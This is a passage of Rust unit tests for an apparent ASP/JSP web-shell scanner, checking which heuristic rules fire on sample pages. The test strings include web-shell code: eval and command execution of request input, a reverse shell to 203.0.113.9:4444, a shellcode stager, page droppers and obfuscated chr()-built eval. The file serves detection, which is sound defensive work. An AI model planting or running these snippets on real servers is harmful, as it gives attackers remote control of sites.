            // Through a variable, with the site's root only as the default.
            "<%\np = Trim(Request(\"p\"))\nIf p = \"\" Then p = Server.MapPath(\"/\")\nSet fd = fso.GetFolder(p)\nFor Each f In fd.Files\nResponse.Write f.Name\nNext\n%>",
        ] {
            assert_eq!(ids(asp, page), ["scan.heuristic.asp_file_path"], "{page}");
        }
        // Paths mapped into the site, or built from the site's own folders.
        for page in [
            "<%\nfso.CopyFile Server.MapPath(Request(\"using\")), Server.MapPath(Request(\"bak\"))\n%>",
            "<%\nif fso.FileExists(server.MapPath(u)) then fso.DeleteFile(server.MapPath(request(\"pic\")))\n%>",
            "<%\nSet f = fso.GetFolder(Server.MapPath(\"upload/\" & Request(\"d\")))\n%>",
            // A variable mapped before use, or set from the request only after.
            "<%\np = Request(\"p\")\np = Server.MapPath(\"upload/\" & p)\nSet fd = fso.GetFolder(p)\nFor Each f In fd.Files\nResponse.Write f.Name\nNext\n%>",
            "<%\nSet fd = fso.GetFolder(p)\np = Request(\"p\")\nFor Each f In fd.Files\nResponse.Write f.Name\nNext\n%>",
            // A backup copied to the folder an admin's form names.
            "<%\nbk = Request.Form(\"bkfolder\")\nfso.CopyFile Server.MapPath(\"data.mdb\"), bk & \"\\data.bak\"\n%>",
        ] {
            assert!(ids(asp, page).is_empty(), "{page}");
        }
    }

    #[test]
    fn methods_of_the_pages_own_classes_and_java_readers() {
        let class = "<%\nClass Runner\n  Public Sub Go(c)\n    Execute c\n  End Sub\nEnd Class\nSet r = New Runner\nr.Go Request(\"c\")\n%>";
        assert_eq!(ids(asp, class), ["scan.heuristic.asp_eval"]);
        let other = "<%\nClass Runner\n  Public Sub Go(c)\n    Execute c\n  End Sub\nEnd Class\nSet r = New Runner\nr.Go \"Call Show()\"\nx.Stop Request(\"c\")\n%>";
        assert!(ids(asp, other).is_empty());
        let reader = "<% BufferedReader r = new BufferedReader(new FileReader(request.getParameter(\"p\"))); %>";
        assert_eq!(ids(jsp, reader), ["scan.heuristic.jsp_file_path"]);
        let own = "<% BufferedReader r = new BufferedReader(new FileReader(application.getRealPath(\"/WEB-INF/\" + request.getParameter(\"p\") + \".txt\"))); %>";
        assert!(ids(jsp, own).is_empty());
    }

    #[test]
    fn deserialisers_vb_shell_getref_and_streams() {
        for (page, id) in [
            (
                "<%@ Page Language=\"C#\" %>\n<% var bf = new BinaryFormatter();\nbf.Deserialize(new System.IO.MemoryStream(Convert.FromBase64String(Request.Form[\"d\"]))); %>",
                "scan.heuristic.asp_deserialize",
            ),
            (
                "<% var x = System.Windows.Markup.XamlReader.Parse(Request[\"x\"]); %>",
                "scan.heuristic.asp_deserialize",
            ),
            (
                "<%@ Page Language=\"VB\" %>\n<%\nDim id As Integer = Shell(\"cmd.exe /c \" & Request(\"c\"), AppWinStyle.Hide)\n%>",
                "scan.heuristic.asp_exec",
            ),
            (
                "<%@ Page Language=\"VB\" %>\n<%\nDim o = CreateObject(\"WScript.Shell\")\nDim r = CallByName(o, \"Exec\", CallType.Method, Request(\"c\"))\n%>",
                "scan.heuristic.asp_exec",
            ),
            (
                "<%\nSet f = GetRef(Request(\"f\"))\nf Request(\"a\")\n%>",
                "scan.heuristic.asp_reflection",
            ),
            // Request bytes written into a stream, read back and run.
            (
                "<%\nDim b : b = Request.BinaryRead(n)\ns.Type = 1 : s.Open : s.Write b : s.Position = 0\nExecuteGlobal s.ReadText\n%>",
                "scan.heuristic.asp_eval",
            ),
        ] {
            assert_eq!(ids(asp, page), [id], "{page}");
        }
        let rhino = "<% org.mozilla.javascript.Context cx = org.mozilla.javascript.Context.enter();\nObject r = cx.evaluateString(sc, request.getParameter(\"js\"), \"x\", 1, null); %>";
        assert_eq!(ids(jsp, rhino), ["scan.heuristic.jsp_script_engine"]);
        for page in [
            // A formatter fed the page's own file; a variable named shell; a fixed GetRef.
            "<% var bf = new BinaryFormatter(); var o = bf.Deserialize(File.OpenRead(Server.MapPath(\"~/App_Data/cache.bin\"))); var q = Request[\"q\"]; %>",
            "<%@ Page Language=\"VB\" %>\n<%\nDim shell = \"Welcome \" & Request(\"name\")\n%>",
            "<%\nSet f = GetRef(\"Show\" & Request(\"tab\"))\n%>",
            // The request written to the browser, and a stream saved from a fixed text.
            "<%\nb = Request.BinaryRead(n)\nResponse.Write b\nExecute \"Call Page\"\n%>",
        ] {
            assert!(ids(asp, page).is_empty(), "{page}: {:?}", ids(asp, page));
        }
    }

    #[test]
    fn dictionaries_shellcode_stagers_and_reverse_shells() {
        let dict = "<%\nSet d = CreateObject(\"Scripting.Dictionary\")\nd.Add \"k\", Request.Form(\"c\")\nExecute d.Item(\"k\")\n%>";
        assert_eq!(ids(asp, dict), ["scan.heuristic.asp_eval"]);
        // A dictionary of the page's own texts, run; the request only looked up in it.
        let own = "<%\nd.Add \"k\", \"Call Home()\"\nExecute d.Item(Request(\"k\"))\n%>";
        assert!(ids(asp, own).is_empty(), "{:?}", ids(asp, own));
        let stager = "<%@ Page Language=\"C#\" %><script runat=\"server\">\n[DllImport(\"kernel32\")] static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);\n[DllImport(\"kernel32\")] static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr i);\n</script>";
        assert_eq!(ids(asp, stager), ["scan.heuristic.asp_shellcode"]);
        let reverse = "<% var c = new TcpClient(\"203.0.113.9\", 4444); var st = c.GetStream();\nvar p = new Process(); p.StartInfo.FileName = \"cmd.exe\"; p.StartInfo.RedirectStandardInput = true; p.Start(); %>";
        assert_eq!(ids(asp, reverse), ["scan.heuristic.asp_reverse_shell"]);
        let reflected = "<% byte[] d = Convert.FromBase64String(Context.Request[p]);\nContext.Session[\"payload\"] = (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod(\"Load\", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { d }); %>";
        assert!(ids(asp, reflected).contains(&"scan.heuristic.asp_assembly"));
        assert!(
            ids(
                asp,
                "<% var v = typeof(Assembly).GetMethod(\"GetName\").Invoke(a, null); %>"
            )
            .is_empty()
        );
        // A page that imports the API for something else; a socket client with no process.
        for page in [
            "<script runat=\"server\">[DllImport(\"kernel32\")] static extern uint GetTickCount();</script>",
            "<% var c = new TcpClient(host, 25); var st = c.GetStream(); st.Write(b, 0, b.Length); %>",
        ] {
            assert!(ids(asp, page).is_empty(), "{page}");
        }
    }

    #[test]
    fn continued_lines_jscript_handlers_and_one_letter_decoders() {
        for (page, id) in [
            // A VBScript call continued with ` _` onto the line that reads the request.
            (
                "<%\nDim o = Server.CreateObject(\"WSc\" & \"ript.Sh\" & \"ell\")\nDim r = o.Exec(\"cmd /c \" _\n   & Request(\"c\"))\n%>",
                "scan.heuristic.asp_exec",
            ),
            // JScript: `new Function` of the request, a split ProgID under ActiveXObject.
            (
                "<%@ Language=JScript %>\n<%\nvar k = Request.Item(\"k\");\nif (k) { var f = new Function(k); f(); }\n%>",
                "scan.heuristic.asp_eval",
            ),
            (
                "<%\nvar sh = new ActiveXObject(\"WScript\" + \".Shell\");\nvar ex = sh.Exec(\"cmd /c \" + Request.Form(\"c\"));\n%>",
                "scan.heuristic.asp_exec",
            ),
            // A handler's FileStream created where its context's request says.
            (
                "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\npublic void ProcessRequest(HttpContext ctx) {\nstring p = ctx.Request[\"p\"];\nusing (var w = new FileStream(ctx.Server.MapPath(p), FileMode.Create)) { }\n}",
                "scan.heuristic.asp_write",
            ),
            // A one-letter decoder of the page, run.
            (
                "<%\nFunction d(s)\nd = s\nEnd Function\nExecuteGlobal d(\"6576616C\")\n%>",
                "scan.heuristic.asp_eval_decoded",
            ),
        ] {
            assert_eq!(ids(asp, page), [id], "{page}");
        }
        for page in [
            // A continued line that only builds a message; a stream opened to read.
            "<%\nmsg = \"Hello \" _\n  & Request(\"name\")\nResponse.Write Server.HTMLEncode(msg)\n%>",
            "<% var s = new FileStream(Server.MapPath(Request[\"f\"]), FileMode.Open); %>",
            // A continued line is part of the statement above, not one of its own: here
            // `homedir = c` is a comparison inside `s = …`, and `homedir` is never set.
            "<%\nc = Request(\"c\")\ns = \"a\" & _\nhomedir = c\nExecute homedir\n%>",
            // An array element run: not a function of the page.
            "<%\nDim a(2)\nExecute a(1)\n%>",
            // Client-side JavaScript's `new Function`, with the request only in markup.
            "<script>var f = new Function(\"return 1\");</script><%= Server.HTMLEncode(Request(\"q\")) %>",
        ] {
            assert!(ids(asp, page).is_empty(), "{page}: {:?}", ids(asp, page));
        }
    }

    #[test]
    fn registry_writes_downloads_and_commands() {
        for (page, id) in [
            (
                "<%\nSet s = CreateObject(\"WScript.Shell\")\ns.RegWrite \"HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd\", Request(\"v\")\n%>",
                "scan.heuristic.asp_registry",
            ),
            (
                "<% using (var wc = new System.Net.WebClient()) { wc.DownloadFile(Request[\"u\"], Server.MapPath(\"~/x.aspx\")); } %>",
                "scan.heuristic.asp_write",
            ),
            (
                "<%\nSet c = Server.CreateObject(\"ADODB.Command\")\nc.ActiveConnection = Request(\"cs\")\n%>",
                "scan.heuristic.asp_db_client",
            ),
        ] {
            assert_eq!(ids(asp, page), [id], "{page}");
        }
        let jsp_copy = "<% java.io.InputStream in = new java.net.URL(request.getParameter(\"u\")).openStream();\njava.nio.file.Files.copy(in, java.nio.file.Paths.get(application.getRealPath(\"/\") + request.getParameter(\"n\"))); %>";
        assert!(ids(jsp, jsp_copy).contains(&"scan.heuristic.jsp_write"));
        // A fixed setting written; a feed image fetched from the site's own list.
        for page in [
            "<%\nSet s = CreateObject(\"WScript.Shell\")\ns.RegWrite \"HKCU\\Software\\Site\\Lang\", \"en\"\nq = Request(\"q\")\n%>",
            "<% var wc = new System.Net.WebClient(); wc.DownloadFile(feed.ImageUrl, Server.MapPath(\"~/img/\" + Request[\"id\"] + \".jpg\")); %>",
        ] {
            assert!(ids(asp, page).is_empty(), "{page}");
        }
    }

    #[test]
    fn aspx_reflection_by_request_names() {
        let page = "<% var a = Request.Form[\"a\"];\nvar t = System.Type.GetType(a);\nvar m = t.GetMethod(Request.Form[\"m\"]);\nm.Invoke(null, null); %>";
        assert_eq!(ids(asp, page), ["scan.heuristic.asp_reflection"]);
        // A handler picked from the page's own names.
        let own = "<% var t = System.Type.GetType(\"MySite.Handlers.\" + Request[\"h\"] + \"Handler\"); %>";
        assert!(ids(asp, own).is_empty());
    }

    #[test]
    fn jsp_tunnels_database_clients_and_part_uploads() {
        let tunnel = "<%\nString target = request.getHeader(\"X-TARGET\");\nint port = Integer.parseInt(request.getHeader(\"X-PORT\"));\nSocketChannel ch = SocketChannel.open();\nch.connect(new InetSocketAddress(target, port));\n%>";
        assert_eq!(ids(jsp, tunnel), ["scan.heuristic.jsp_tunnel"]);
        let client = "<% Connection c = DriverManager.getConnection(request.getParameter(\"url\"), request.getParameter(\"u\"), request.getParameter(\"p\")); %>";
        assert_eq!(ids(jsp, client), ["scan.heuristic.jsp_db_client"]);
        let part = "<% Part p = request.getPart(\"f\"); String dst = request.getParameter(\"to\"); p.write(dst); %>";
        assert_eq!(ids(jsp, part), ["scan.heuristic.jsp_write"]);
        let direct = "<% javax.servlet.http.Part f = request.getPart(\"f\"); f.write(request.getParameter(\"to\")); %>";
        assert_eq!(ids(jsp, direct), ["scan.heuristic.jsp_write"]);
        // An upload page that echoes a parameter through the page's writer.
        let echo = "<% Part p = request.getPart(\"f\"); p.write(dir + \"/up.bin\"); out.write(request.getParameter(\"msg\")); %>";
        assert!(ids(jsp, echo).is_empty());
        // An app's own database, a health check of a fixed host, an upload under its own name.
        for page in [
            "<% Connection c = DriverManager.getConnection(\"jdbc:mysql://db/app?user=\" + request.getParameter(\"u\")); %>",
            "<% Socket s = new Socket(\"127.0.0.1\", 8080); String q = request.getParameter(\"q\"); %>",
            "<% Part p = request.getPart(\"f\"); p.write(uploadDir + File.separator + UUID.randomUUID()); %>",
        ] {
            assert!(ids(jsp, page).is_empty(), "{page}");
        }
    }

    #[test]
    fn asp_flows_through_variables() {
        let page = "<%\ndim x1,x2\nx1 = request(\"h\")\nx2 = x1\neval x2\n%>";
        assert_eq!(ids(asp, page), ["scan.heuristic.asp_eval"]);
        assert_eq!(
            ids(asp, "<%eval request(\"chopper\")%>"),
            ["scan.heuristic.asp_eval"]
        );
        let write = "<%set s=server.createObject(\"Adodb.Stream\")%><%s.writetext request(\"d\")%>\n<%s.SaveToFile server.mappath(\"x.asp\"),2%>";
        // The content went in one statement and the save is another: no flow of the path, but
        // request data saved as a page the file names is a dropper (`page_drop`).
        assert_eq!(ids(asp, write), ["scan.heuristic.asp_page_drop"]);
        let path = "set fso=server.createobject(\"scripting.filesystemobject\")\npath=request(\"path\")\nset da=fso.createtextfile(path,true)";
        assert_eq!(ids(asp, path), ["scan.heuristic.asp_write"]);
        let wrapped = "<%execute(decode(request(\"x\")))%>";
        assert_eq!(ids(asp, wrapped), ["scan.heuristic.asp_eval"]);
    }

    #[test]
    fn many_evaluations_read_the_page_once() {
        // Each `Execute ab(` looked for `function ab(` through the whole page: hours for a few
        // MB of this. The page's functions are now read once.
        let page = format!(
            "<%{}\nfunction ab(s)\nab = s\nend function%>",
            "\nexecute ab(x)".repeat(200_000)
        );
        assert_eq!(ids(asp, &page), ["scan.heuristic.asp_eval_decoded"]);
    }

    #[test]
    fn asp_decoded_execute() {
        let page =
            "<%\nfunction cd(s, k)\ncd = s\nend function\nExecute cd(\"6877656D\",\"1314\")\n%>";
        assert_eq!(ids(asp, page), ["scan.heuristic.asp_eval_decoded"]);
        // A function of the page that is not called under Execute, and Execute of a string.
        let benign = "<%\nfunction show(s)\nend function\nshow(\"x\")\nExecute \"Call \" & a\n%>";
        assert!(ids(asp, benign).is_empty());
        // Built-in decoders: the page defines nothing, the language decodes.
        for page in [
            "<%execute(unescape(\"eval%20request%28%22x%22%29\"))%>",
            "<%Execute StrReverse(\")\"\"x\"\"(tseuqer lave\")%>",
        ] {
            assert_eq!(
                ids(asp, &page.to_lowercase()),
                ["scan.heuristic.asp_eval_decoded"],
                "{page}"
            );
        }
        // Unescape of text that is written out, not run.
        assert!(ids(asp, "<%response.write unescape(\"a%20b\")%>").is_empty());
        // Code text that reads the request, run by a name assembled in a variable.
        let text = "<%\nk = \"e\"&\"v\"&\"a\"&\"l\"\nExecute(k & \"(request(\"\"m\"\"))\")\n%>";
        assert_eq!(ids(asp, text), ["scan.heuristic.asp_eval"]);
        // A query that reads the request, run by the connection; text of the page's own names.
        let quiet = "<%\nconn.Execute(\"update t set a = request(\"\"a\"\")\")\nExecute \"Call Show\" & n & \"()\"\n%>";
        assert!(ids(asp, quiet).is_empty());
    }

    #[test]
    fn asp_assembled_and_parked_input() {
        let chr = "<%eval (eval(chr(114)+chr(101)+chr(113)+chr(117)+chr(101)+chr(115)+chr(116))(\"sz\"))%>";
        assert_eq!(ids(asp, chr), ["scan.heuristic.asp_chr_assembly"]);
        let hex = "<%x = chrw(&h65) & chrw(&h76) & chrw(&h61) & chrw(&h6c)%>";
        assert_eq!(ids(asp, hex), ["scan.heuristic.asp_chr_assembly"]);
        let pieces = "<%set o = server.createobject(\"ms\"&chr(115)&\"cr\"&chr(105)&\"ptco\"&chr(110)&chr(84)&\"rol.sc\"&chr(114)&\"iptco\"&chr(110)&chr(84)&\"rol.1\")%>";
        assert_eq!(ids(asp, pieces), ["scan.heuristic.asp_chr_assembly"]);
        let spaced = "<%eval(chr ( 114 ) & chr ( 101 ) & chr ( 113 ) & chr ( 117 ) & chr ( 101 ) & chr ( 115 ) & chr ( 116 ))%>";
        assert_eq!(ids(asp, spaced), ["scan.heuristic.asp_chr_assembly"]);
        let url = "<%response.write chr(60)&chr(109)&chr(101)&chr(116)&chr(97)&chr(32)&chr(104)&chr(116)&chr(116)&chr(112)&chr(58)&chr(47)&chr(47)%>";
        assert!(ids(asp, url).is_empty());
        let program = format!("<%x=chr(77)&chr(90)&chr(144){}%>", "&chr(0)".repeat(70));
        assert_eq!(ids(asp, &program), ["scan.heuristic.asp_chr_assembly"]);
        let lines = "<%x = \"request\" & chr(13) & chr(10) & \"eval this\" & chr(9)%>";
        assert!(ids(asp, lines).is_empty());
        assert!(ids(asp, "<%response.write \"a\" & chr(13) & chr(10) & \"b\"%>").is_empty());
        let session = "<script language=\"vbscript\" runat=\"server\">\nif request(\"1\")<>\"\" then session(\"k\")=request(\"1\")\nif session(\"k\")<>\"\" then execute(session(\"k\"))\n</script>";
        assert_eq!(ids(asp, session), ["scan.heuristic.asp_eval"]);
        // A session value the page set itself is not input; running it is still running
        // stored code, said as such rather than as request input.
        let own = ids_hits(asp, "<%session(\"a\")=now()\nexecute(session(\"a\"))%>");
        assert_eq!(own.len(), 1);
        assert_eq!(own[0].title, "ASP runs code kept in the session");
        let coerced =
            "<script runat=server language=javascript>eval(request.form('#')+'')</script>";
        assert_eq!(ids(asp, coerced), ["scan.heuristic.asp_eval"]);
    }

    #[test]
    fn asp_page_droppers() {
        let stream = "<%set s=server.createobject(\"adodb.stream\")\ns.open\ns.writetext request(\"d\")\ns.savetofile server.mappath(\"dama.asp\"),2%>";
        assert_eq!(ids(asp, stream), ["scan.heuristic.asp_page_drop"]);
        let text = "<%\nshell=request(\"txt\")\nset t=fso.createtextfile(server.mappath(\"up1oad.asp\"))\nt.write(shell)\n%>";
        assert_eq!(ids(asp, text), ["scan.heuristic.asp_page_drop"]);
        let fetch = "<%\nset x = createobject(\"microsoft.xmlhttp\")\nx.open \"get\",\"http://example.test/a.txt\",false\nx.send()\nset g = createobject(\"adodb.stream\")\ng.write(x.responsebody)\ng.savetofile server.mappath(\"b.asp\"),2\n%>";
        assert_eq!(ids(asp, fetch), ["scan.heuristic.asp_page_drop"]);
        // Settings saved into config.asp as strings the page builds; a remote image saved as .jpg.
        let config = "<%\nset f=fso.createtextfile(server.mappath(\"config.asp\"))\nf.write \"const sitename=\"\"\" & request.form(\"name\") & \"\"\"\"\n%>";
        assert!(ids(asp, config).is_empty());
        let image = "<%\nset x = createobject(\"microsoft.xmlhttp\")\nset g = createobject(\"adodb.stream\")\ng.write(x.responsebody)\ng.savetofile server.mappath(\"up/1.jpg\"),2\n%>";
        assert!(ids(asp, image).is_empty());
        // A page cache: fetched HTML, cleaned, stored as text in an .asp file it includes.
        let cache = "<%\nset x = createobject(\"microsoft.xmlhttp\")\nbody = bytes2str(x.responsebody)\nset f = fso.opentextfile(server.mappath(\"cache.asp\"), 8, true)\nf.write(trim(body))\n%>";
        assert!(ids(asp, cache).is_empty());
    }

    #[test]
    fn asp_shell_application() {
        let page = "<%\nset sa = createobject(\"shell.application\")\nexe = request.form(\"text1\")\nsa.shellexecute exe, request.form(\"text2\"), \"\", \"open\", 0\n%>";
        assert_eq!(ids(asp, page), ["scan.heuristic.asp_exec"]);
        // WScript.Shell declared by its class id instead of its name.
        let object = "<object runat=server id=o scope=page classid=\"clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8\"></object>\n<%\nresponse.write o.exec(request(\"cmdx\")&\" /c\"&request(\"cmd\")).stdout.readall\n%>";
        assert_eq!(
            ids(asp, &object.to_ascii_lowercase()),
            ["scan.heuristic.asp_exec"]
        );
        let probe = "<object runat=server id=ws scope=page classid=\"clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8\"></object>\n<% response.write ws.expandenvironmentstrings(\"%os%\") %>";
        assert!(ids(asp, &probe.to_ascii_lowercase()).is_empty());
    }

    #[test]
    fn asp_code_kept_in_the_session() {
        let page = "<%\nif session(\"k\")=\"\" then\ncode=decrypt_pro(c,key)\nsession(\"k\")=code\nend if\nexecute(session(\"k\"))\n%>";
        assert_eq!(ids(asp, page), ["scan.heuristic.asp_eval"]);
        assert_eq!(
            ids(asp, "<% executeglobal application(\"c\") %>"),
            ["scan.heuristic.asp_eval"]
        );
        let settings = "<% conn.execute(session(\"sql\")) : x = myeval(session(\"a\")) : response.write session(\"user\") %>";
        assert!(ids(asp, settings).is_empty());
    }

    #[test]
    fn asp_script_control() {
        let page = "<%\nSet o = Server.CreateObject(\"ScriptControl\")\no.addcode(Request(\"SubCode\"))\no.run \"e\"\n%>";
        assert_eq!(ids(asp, page), ["scan.heuristic.asp_eval"]);
    }

    #[test]
    fn asp_database_calls_are_not_eval() {
        let page = "<%\nid = request(\"id\")\nset rs = conn.execute(\"select * from news where id=\" & id)\n%>";
        assert!(ids(asp, page).is_empty());
        let compare = "<%\nif request(\"action\") = \"save\" then\nexecute_save()\nend if\n%>";
        assert!(ids(asp, compare).is_empty());
        // Dispatch on a parameter and a template path built from one: CMS idioms.
        let dispatch = "<%\naction = request(\"action\")\nExecute \"Call \" & action & \"()\"\n%>";
        assert!(ids(asp, dispatch).is_empty());
        let template =
            "<%\nf = request(\"f\")\nSet o = fso.CreateTextFile(Server.MapPath(\"tpl/\" & f))\n%>";
        assert!(ids(asp, template).is_empty());
        let built = "<%\nx = server.mappath(\"rss\" & request(\"id\") & \".xml\")\nSet o = fso.CreateTextFile(x, True)\n%>";
        assert!(ids(asp, built).is_empty());
    }

    #[test]
    fn text_outside_ascii_is_safe() {
        let page = "<%\nĿid = request(\"x\")\néval Ŀid\nĿ=1\n=request(\"y\")\n%>";
        let _ = ids(asp, page);
        let _ = ids(jsp, "Ŀ=request.getParameter(\"x\");\nŁ.exec(Ŀ)");
    }

    #[test]
    fn jsp_flows() {
        let page = "<% String c = request.getParameter(\"c\");\nProcess p = Runtime.getRuntime().exec(c); %>";
        assert_eq!(ids(jsp, page), ["scan.heuristic.jsp_exec"]);
        let write = "<%new java.io.FileOutputStream(application.getRealPath(\"/\")+request.getParameter(\"f\")).write(1);%>";
        assert_eq!(ids(jsp, write), ["scan.heuristic.jsp_write"]);
        let benign =
            "<% String id = request.getParameter(\"id\");\nout.println(service.find(id)); %>";
        assert!(ids(jsp, benign).is_empty());
        let qualified = "<%(new java.io.FileOutputStream(application.getRealPath(\"/\")+request.getParameter(\"f\"))).write(1);%>";
        assert_eq!(ids(jsp, qualified), ["scan.heuristic.jsp_write"]);
        let browse =
            "<% File f = new File(request.getParameter(\"file\"));\nFile[] l = f.listFiles(); %>";
        assert_eq!(ids(jsp, browse), ["scan.heuristic.jsp_file_path"]);
        let under_root = "<% File f = new File(root, request.getParameter(\"file\")); %>";
        assert!(ids(jsp, under_root).is_empty());
        let reverse = "Socket s = new java.net.Socket(host, port);\nProcess p = Runtime.getRuntime().exec(\"sh\");\ncopy(p.getInputStream(), s.getOutputStream());";
        assert_eq!(ids(jsp, reverse), ["scan.heuristic.jsp_reverse_shell"]);
        let log = "<%java.util.logging.FileHandler h=new java.util.logging.FileHandler(pageContext.getServletContext().getRealPath(\"/\")+request.getParameter(\"f\"),true);l.info(request.getParameter(\"t\"));%>";
        assert_eq!(ids(jsp, log), ["scan.heuristic.jsp_write"]);
        let xslt = "<% BufferedReader br = request.getReader();\nString line, whole = \"\";\nwhile ((line = br.readLine()) != null) { whole += line; }\nInputStream in = new ByteArrayInputStream(whole.getBytes());\nTransformer t = TransformerFactory.newInstance().newTransformer(new StreamSource(in)); %>";
        assert_eq!(ids(jsp, xslt), ["scan.heuristic.jsp_xslt"]);
        let report = "<% Transformer t = TransformerFactory.newInstance().newTransformer(new StreamSource(application.getResourceAsStream(\"/report.xsl\")));\nt.setParameter(\"id\", request.getParameter(\"id\")); %>";
        assert!(ids(jsp, report).is_empty());
    }
}
